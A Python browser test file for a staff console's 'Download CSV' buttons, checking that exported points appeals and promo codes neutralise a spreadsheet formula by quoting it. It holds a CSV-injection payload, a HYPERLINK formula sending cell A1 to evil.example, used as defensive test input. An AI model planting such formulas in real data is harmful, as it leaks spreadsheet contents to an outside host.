"""A console table's "Download CSV" button in Chromium: an admin signed in with two-factor
downloads the open points appeals from the points review page; the file is the table's
rows, with a member's formula shown as text (quoted), not run by a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from tests.web.conftest import (
    LiveServer,
    admin_with_two_factor,
    assert_accessible,
    register,
    screenshot,
    sign_in_with_code,
)

pytestmark = pytest.mark.browser

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


async def test_an_admin_downloads_the_open_appeals_as_csv(
    context: Any, live_server: LiveServer, tmp_path: Path
) -> None:
    admin, secret, _ = await admin_with_two_factor(live_server)
    member = await register(live_server, name="Ayo Appellant")
    async with live_server.api() as client:
        login = await client.post(
            "/api/v1/login", json={"email": member.email, "password": member.password}
        )
        headers = {"Authorization": f"Bearer {login.json()['access_token']}"}
        for message in ("My streak bonus never arrived", FORMULA):
            filed = await client.post(
                "/api/v1/points/appeals", json={"message": message}, headers=headers
            )
            assert filed.status_code == 201, filed.text

    page = await context.new_page()
    await sign_in_with_code(page, live_server, admin, secret, "/staff/points")
    await page.get_by_text("My streak bonus never arrived").first.wait_for()
    await assert_accessible(page, "Points review with its Download CSV button")
    button = page.get_by_role("button", name="Download CSV of the open appeals")
    async with page.expect_download() as waiting:
        await button.click()
    download = await waiting.value
    saved = tmp_path / download.suggested_filename
    await download.save_as(saved)
    await page.get_by_text("Downloaded points-appeals.csv.").wait_for()
    await screenshot(page, "staff-points-download-csv")

    assert download.suggested_filename == "points-appeals.csv"
    rows = list(csv.DictReader(io.StringIO(saved.read_text(encoding="utf-8"))))
    assert sorted(r["message"] for r in rows) == sorted(
        ["My streak bonus never arrived", "'" + FORMULA]
    )
    assert {r["user_id"] for r in rows} == {str(member.id)}
    assert {r["status"] for r in rows} == {"open"}


async def test_an_admin_downloads_promo_codes_and_the_texts_of_the_language_shown(
    context: Any, live_server: LiveServer, tmp_path: Path
) -> None:
    """Two of the staff tables that had no CSV: the promo codes (a staff note that would
    run as a formula comes out quoted), and the notification texts, whose file follows the
    page's language filter."""
    admin, secret, headers = await admin_with_two_factor(live_server)
    async with live_server.api() as client:
        created = await client.post(
            "/api/v1/admin/promo-codes",
            json={"code": "CSV10", "kind": "percent", "percent_bps": 1000, "description": FORMULA},
            headers=headers,
        )
        assert created.status_code == 201, created.text

    page = await context.new_page()
    await sign_in_with_code(page, live_server, admin, secret, "/staff/promo-codes")
    await page.locator("#code-rows").get_by_text("CSV10").wait_for()
    await assert_accessible(page, "Promo codes with their Download CSV button")
    async with page.expect_download() as waiting:
        await page.get_by_role("button", name="Download CSV of the promo codes").click()
    codes = await _saved(await waiting.value, tmp_path)
    await page.get_by_text("Downloaded promo-codes.csv.").wait_for()

    assert [(r["code"], r["percent_bps"], r["description"]) for r in codes] == [
        ("CSV10", "1000", "'" + FORMULA)
    ]

    await page.goto(f"{live_server.url}/staff/templates")
    await page.get_by_label("Language").select_option("sw")
    button = page.get_by_role("button", name="Download CSV of the notification texts shown")
    async with page.expect_download() as waiting:
        await button.click()
    texts = await _saved(await waiting.value, tmp_path)
    await screenshot(page, "staff-templates-download-csv")

    shown = await page.locator("#text-rows tr").count()
    assert len(texts) == shown > 0
    assert {r["language"] for r in texts} == {"sw"}


async def _saved(download: Any, folder: Path) -> list[dict[str, str]]:
    saved = folder / download.suggested_filename
    await download.save_as(saved)
    return list(csv.DictReader(io.StringIO(saved.read_text(encoding="utf-8"))))
